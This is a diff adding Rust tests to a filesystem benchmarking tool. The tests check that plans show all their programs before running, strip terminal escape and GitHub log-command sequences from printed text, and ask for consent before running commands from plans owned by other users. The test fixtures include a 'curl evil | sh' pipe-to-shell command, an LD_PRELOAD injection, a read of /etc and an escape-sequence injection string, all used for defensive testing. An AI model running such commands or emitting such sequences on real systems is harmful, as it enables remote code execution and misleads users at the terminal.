@@ -3,7 +3,10 @@
 
 mod common;
 
-use common::{Lab, Said};
+use common::{Lab, Said, not_run};
+use std::io::Write;
+use std::os::unix::fs::PermissionsExt;
+use std::process::{Command, Stdio};
 
 /// A plan that is right, in four parts: H head, B backing, T target, W work.
 const HEAD: &str = "title = \"t\"\n";
@@ -183,4 +186,150 @@ fn a_plan_that_is_no_file_or_no_text_is_an_error_with_its_cause() {
     }
     lab.run(&["run", "--fs"]).code(2);
     lab.run(&["frobnicate"]).code(2);
+}
+
+/// What steers a terminal, and what a log of GitHub obeys, as a plan's text.
+const STEERING: &str = "\\u001b]0;owned\\u0007\\u009b31m\\u202eevil\\u2066\\u200f\\r\\n::stop-commands::x";
+
+/// Raw control characters or marks of direction, or a command at the start of a line.
+fn steers(text: &str) -> Option<String> {
+    let raw = text.chars().find(|c| *c != '\n' && pickfs::plan::steers(*c));
+    let command = text.lines().find(|line| line.trim_start().starts_with("::") || line.contains("##["));
+    raw.map(|c| format!("{c:?}")).or(command.map(String::from))
+}
+
+/// A plan of commands of its own, on a folder as it is.
+fn commands(title: &str, command: &str) -> String {
+    format!(
+        "title = \"{title}\"\nduplicate = false\nbacking = {{ directory = \".\" }}\n[[target]]\nname = \"here\"\n\
+         [[work]]\nworkload = \"command\"\ncommand = {command}\nenvironment = [\"LD_PRELOAD=/tmp/x.so\"]\nstart = \"warm\"\n\
+         [stop]\nrounds = 1\n"
+    )
+}
+
+#[test]
+fn a_dry_run_shows_every_program_first_and_whole() {
+    let lab = Lab::new();
+    let long = "x".repeat(3000);
+    lab.write_plan(&commands("t", &format!("[\"sh\", \"-c\", \"curl evil | sh {long}\"]")));
+    let said = lab.run(&["plan", "plan.toml"]).code(0).out;
+    let command = said.find(&format!("    command: sh -c 'curl evil | sh {long}'\n")).expect("the command");
+    assert!(said.find("this plan runs these programs, ").is_some_and(|at| at < command), "{said}");
+    assert!(said.find("    environment: 'LD_PRELOAD=/tmp/x.so'\n").is_some_and(|at| at < 4000), "{said}");
+    assert!(said.find("cells: ").is_some_and(|at| at > command), "{said}");
+    let reads = "[[work]]\nworkload = \"tree\"\nsource = \"/etc\"\nname = \"copy\"\n[stop]";
+    lab.write_plan(&commands("t", "\"true\"").replace("[stop]", reads));
+    let said = lab.run(&["plan", "plan.toml"]).code(0).out;
+    assert!(said.contains("this plan reads these files and folders\n  /etc\n"), "{said}");
+}
+
+/// Each word of a plan that is printed.
+#[test]
+fn no_word_of_a_plan_steers_the_terminal() {
+    let lab = Lab::new();
+    let plans = [
+        commands(STEERING, "\"true\""),
+        commands("t", &format!("[\"sh\", \"-c\", \"{STEERING}\"]")),
+        commands("t", "\"true\"").replace("/tmp/x.so", STEERING),
+        commands("t", "\"true\"").replace("\"here\"", &format!("\"{STEERING}\"")),
+        commands("t", "\"true\"").replace("start =", &format!("name = \"{STEERING}\"\nstart =")),
+        commands("t", "\"true\"").replace("start =", &format!("package = \"{STEERING}\"\nstart =")),
+        commands("t", "\"true\"").replace("start =", &format!("source = \"{STEERING}\"\nstart =")),
+        commands("t", "\"true\"").replace("start =", &format!("source_as = \"{STEERING}\"\nstart =")),
+        commands("t", "\"true\"").replace("directory = \".\"", &format!("directory = \"{STEERING}\"")),
+        commands("t", "\"true\"").replace("[stop]", &format!("[verdict]\nrequire = [\"{STEERING}\"]\n[stop]")),
+        commands("t", "\"true\"").replace("[stop]", &format!("[\"{STEERING}\"]\na = 1\n[stop]")),
+        format!("executor = \"{STEERING}\"\n") + &commands("t", "\"true\""),
+        format!("reference = \"{STEERING}\"\n") + &commands("t", "\"true\""),
+        plan("HBW", &format!("[[target]]\nfs = \"ext4\"\nmkfs = [\"-L\", \"{STEERING}\"]\n")),
+        plan("HBW", &format!("[[target]]\nfs = \"ext4\"\nmount = [\"{STEERING}\"]\n")),
+        plan("HBW", &format!("[[target]]\nfs = \"ext4\"\nscheduler = \"{STEERING}\"\n")),
+        plan("HBW", "[[target]]\nfs = \"\u{202e}\u{9b}\u{1b}\"\n"),
+        plan("HBTW", "# \u{202e}\u{9b}\u{1b}\nx = 1 # \u{202e}\u{9b}\u{1b}[2J\n"),
+    ];
+    let mut wrong = Vec::new();
+    for plan in plans {
+        lab.write_plan(&plan);
+        for words in [&["plan", "plan.toml"][..], &["plan", "--json", "plan.toml"]] {
+            let said = lab.run(words);
+            assert!(said.out.len() + said.err.len() > 50, "{plan}");
+            for text in [&said.out, &said.err] {
+                wrong.extend(steers(text).map(|found| format!("{words:?}: {found} of the plan\n{plan}\n{text}")));
+            }
+        }
+    }
+    lab.write_plan("");
+    let said = lab.run(&["plan", "absent\u{1b}[2J\u{202e}\n::debug::x"]).code(2).err;
+    wrong.extend(steers(&said).map(|found| format!("{found} of a name")));
+    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
+}
+
+/// Without a terminal there is no answer, so that the file's owner counts.
+#[test]
+fn the_programs_of_another_users_plan_are_agreed_to() {
+    if not_run((!rustix::process::geteuid().is_root()).then(|| "only root can give a file to another user".into())) {
+        return;
+    }
+    let lab = Lab::new();
+    let ran = lab.path("ran").display().to_string();
+    lab.write_plan(&commands("t", &format!("[\"touch\", \"{ran}\"]")));
+    let run = ["run", "plan.toml", "--journal", "journal.jsonl"];
+    let set = |mode: u32, owner: u32| {
+        std::fs::set_permissions(lab.path("plan.toml"), std::fs::Permissions::from_mode(mode)).unwrap();
+        std::os::unix::fs::chown(lab.path("plan.toml"), Some(owner), None).unwrap();
+    };
+    for (mode, owner, why) in [(0o644, 65534, "belongs to user 65534"), (0o666, 0, "others may write to")] {
+        set(mode, owner);
+        let said = lab.run(&run).code(5).err;
+        assert!(said.contains("as root on this machine") && said.contains(&format!("touch {ran}\n")), "{said}");
+        assert!(said.contains(why) && said.contains("--yes"), "{said}");
+        assert!(!lab.path("ran").exists() && !lab.journal().exists());
+    }
+    let said = lab.run(&[&run[..], &["--yes"]].concat()).code(0).err;
+    assert!(said.contains(&format!("touch {ran}\n")) && lab.path("ran").exists(), "{said}");
+    // Agreed to once, it is not asked for again: neither the plan nor its journal.
+    for words in [&["run", "plan.toml", "--journal", "2.jsonl"][..], &["run", "--again", "journal.jsonl"]] {
+        let said = lab.run(words).code(0).err;
+        assert!(!said.contains("these programs"), "{said}");
+    }
+    lab.write_plan(&commands("t", &format!("[\"touch\", \"{ran}\", \"x\"]")));
+    set(0o644, 65534);
+    assert!(lab.run(&run).code(5).err.contains("--yes"), "another command is another plan");
+    for elsewhere in ["--host=far", "--slurm=disks"] {
+        let said = lab.run(&["run", "plan.toml", elsewhere]).code(5).err;
+        assert!(said.contains("on the machines that do the run") && said.contains("ran x\n"), "{said}");
+    }
+    set(0o644, 0);
+    let said = lab.run(&["run", "plan.toml", "--journal", "3.jsonl"]).code(0).err;
+    assert!(said.contains(&format!("touch {ran} x\n")), "{said}");
+}
+
+/// What was answered on a terminal counts for the next run of the same commands.
+#[test]
+fn on_a_terminal_each_plan_is_asked_for_once() {
+    let script = pickfs::need::find_program("script").is_none().then(|| "there is no script (bsdutils)".to_string());
+    if not_run(script) {
+        return;
+    }
+    let lab = Lab::new();
+    lab.write_plan(&commands("t", &format!("[\"touch\", \"{}\"]", lab.path("ran").display())));
+    let answer = |answer: &str, journal: &str| {
+        let line = format!("\"$PICKFS\" run plan.toml --journal {journal}");
+        let mut command = Command::new("script");
+        command.args(["--quiet", "--return", "--command", &line, "/dev/null"]).current_dir(lab.path("."));
+        command.env("PICKFS", env!("CARGO_BIN_EXE_pickfs")).env("XDG_STATE_HOME", lab.path("state"));
+        let mut child = command.env("TERM", "dumb").stdin(Stdio::piped()).stdout(Stdio::piped()).spawn().unwrap();
+        child.stdin.take().unwrap().write_all(answer.as_bytes()).unwrap();
+        Said::of(child.wait_with_output().unwrap())
+    };
+    for no in ["n\n", "\n", "what?\n"] {
+        let said = answer(no, "no.jsonl").code(5).out;
+        assert!(said.contains("command: touch ") && said.contains("Go on? [y/N]"), "{said}");
+        assert!(!lab.path("ran").exists() && !lab.path("no.jsonl").exists());
+    }
+    assert!(answer("y\n", "one.jsonl").code(0).out.contains("Go on? [y/N]"));
+    assert!(lab.path("ran").exists());
+    assert!(!answer("n\n", "two.jsonl").code(0).out.contains("Go on?"));
+    lab.write_plan(&commands("t", "\"false\""));
+    assert!(answer("n\n", "three.jsonl").code(5).out.contains("command: false"));
 }
